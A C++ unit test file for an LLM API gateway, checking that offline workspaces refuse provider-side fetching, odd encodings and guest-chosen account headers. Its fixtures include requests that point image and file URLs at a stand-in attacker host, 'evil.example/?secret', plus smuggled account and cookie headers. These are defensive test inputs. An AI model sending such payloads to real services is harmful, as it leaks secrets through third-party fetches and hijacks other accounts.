// Offline is offline through a model as well: what would make the provider reach somewhere does not
// go to it, whatever way it is written; and nothing of the account is the guest's to choose.

#include "gateway/gateway_protocol.h"
#include "unit/gateway/gateway_fixture.h"

namespace helix::gateway {
namespace {

class ReachingGuest : public GatewayTest {
protected:
    ReachingGuest() { setUsualProviders(); }
    GuestAnswer ask(const std::string& request)
    {
        auto guest = m_channel.connect();
        guest.send(request);
        return guest.answer();
    }
    void open(bool fetch)
    {
        openWorkspace("aaaaaaaaaaaa", kToken, m_channel, Json::object(), fetch);
    }
};

const std::string kToolBody =
    R"({"model":"scripted","max_tokens":5,"tools":[{"type":"web_search_20250305","name":"w"}],"messages":[{"role":"user","content":"x"}]})";

TEST_F(ReachingGuest, isRefusedInItsOwnDialectAndHelixIsTold)
{
    open(false);
    const auto anthropic = ask(post("/v1/messages", kToolBody));
    EXPECT_EQ(anthropic.status, 400);
    EXPECT_TRUE(anthropic.has("invalid_request_error"));
    EXPECT_TRUE(anthropic.has("the provider may fetch for it"));
    const Json told = m_gateway.told(std::chrono::seconds(5), kRefused);
    EXPECT_EQ(told["workspace"], "aaaaaaaaaaaa");
    EXPECT_EQ(told["what"], "the server tool \"web_search_20250305\"");
    const char* picture =
        R"({"model":"scripted","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.example/?secret"}}]}]})";
    EXPECT_TRUE(ask(post("/v1/chat/completions", picture)).has("not_allowed"));
    const char* file =
        R"({"contents":[{"parts":[{"fileData":{"fileUri":"https://evil.example/?secret"}}]}]})";
    EXPECT_TRUE(
        ask(post("/v1beta/models/scripted:generateContent", file)).has("FAILED_PRECONDITION"));
    // Counting tokens fetches as well.
    EXPECT_EQ(ask(post("/v1beta/models/scripted:countTokens", file)).status, 400);
    EXPECT_EQ(ask(post("/v1/responses",
                       R"({"model":"scripted","input":"x","tools":[{"type":"web_search"}]})"))
                  .status,
              400);
    EXPECT_EQ(ask(post("/v1/messages", message("scripted", "x"),
                       "x-api-key: hx-token-of-workspace-one\r\nanthropic-beta: "
                       "x,mcp-client-2025-11-20\r\n"))
                  .status,
              400);
    EXPECT_TRUE(log().empty()) << log();
    EXPECT_EQ(ask(post("/v1/messages", message("scripted", "x"))).status, 200);
}

TEST_F(ReachingGuest, isServedWhereTheUserAllowsIt)
{
    open(true);
    EXPECT_EQ(ask(post("/v1/messages", kToolBody)).status, 200);
    m_gateway.ask(kWorkspaceChoices, {{"workspace", "aaaaaaaaaaaa"}, {"fetch", false}});
    EXPECT_EQ(ask(post("/v1/messages", kToolBody)).status, 400);
    m_gateway.ask(kWorkspaceChoices, {{"workspace", "aaaaaaaaaaaa"}, {"fetch", true}});
    EXPECT_EQ(ask(post("/v1/messages", kToolBody)).status, 200);
}

TEST_F(ReachingGuest, cannotHideItInAnEncoding)
{
    open(false);
    const std::string token = "x-api-key: hx-token-of-workspace-one\r\n";
    for (const char* header :
         {"Content-Encoding: gzip\r\n", "Content-Encoding: identity\r\nContent-Encoding: br\r\n"})
        EXPECT_EQ(ask(post("/v1/messages", message("scripted", "x"), token + header)).status, 400)
            << header;
    EXPECT_EQ(ask(post("/v1/messages", "{\"model\":\"scripted\",\"x\":\"\xc0\xa2\"}")).status, 400);
    EXPECT_TRUE(log().empty());
    // UTF-7 and UTF-16 are for nobody to guess: the body's type is the gateway's own word.
    EXPECT_EQ(ask(post("/v1/messages", message("scripted", "x"),
                       token + "Content-Type: application/json; charset=utf-7\r\n"))
                  .status,
              200);
    const std::string sent = log().back()["headers"].dump();
    EXPECT_EQ(sent.find("utf-7"), std::string::npos) << sent;
}

TEST_F(ReachingGuest, choosesNothingOfTheAccount)
{
    open(false);
    std::string headers = "x-api-key: hx-token-of-workspace-one\r\n";
    const std::vector<std::string> names{"OpenAI-Organization",    "OpenAI-Project",
                                         "x-goog-user-project",    "anthropic-workspace-id",
                                         "anthropic-account-id",   "Cookie",
                                         "X-HTTP-Method-Override", "X-Anything-Else",
                                         "x-goog-request-params",  "chatgpt-account-id"};
    for (const auto& name : names)
        headers += name + ": of-the-guest\r\n";
    EXPECT_EQ(ask(post("/v1/messages?beta=true&%24userProject=of-the-guest&quotaUser=of-the-guest",
                       message("scripted", "x"), headers + "x-stainless-lang: js\r\n"))
                  .status,
              200);
    const Json entry = log().back();
    EXPECT_EQ(entry["target"], "/v1/messages?beta=true");
    EXPECT_EQ(entry.dump().find("of-the-guest"), std::string::npos) << entry;
    EXPECT_NE(entry.dump().find("x-stainless-lang"), std::string::npos);
}

TEST_F(ReachingGuest, losesItsAnswerWithItsProvider)
{
    open(false);
    auto streaming = m_channel.connect();
    streaming.send(post("/v1/messages", message("scripted-slow-50-words-1000", "x", true)));
    EXPECT_FALSE(streaming.some().empty());
    auto waiting = m_channel.connect();
    waiting.send(post("/v1/messages", message("scripted-hang", "x")));
    while (log().size() < 2)
        ;
    const Json rest = Json::array({provider("openai", "openai", m_server.url() + "/v1")});
    EXPECT_TRUE(m_gateway.ask(kProvidersSet, {{"providers", rest}}).contains("result"));
    EXPECT_TRUE(streaming.closes(std::chrono::seconds(10)));
    EXPECT_TRUE(waiting.answer(std::chrono::seconds(10)).has("was taken away by the user"));
}

} // namespace
} // namespace helix::gateway
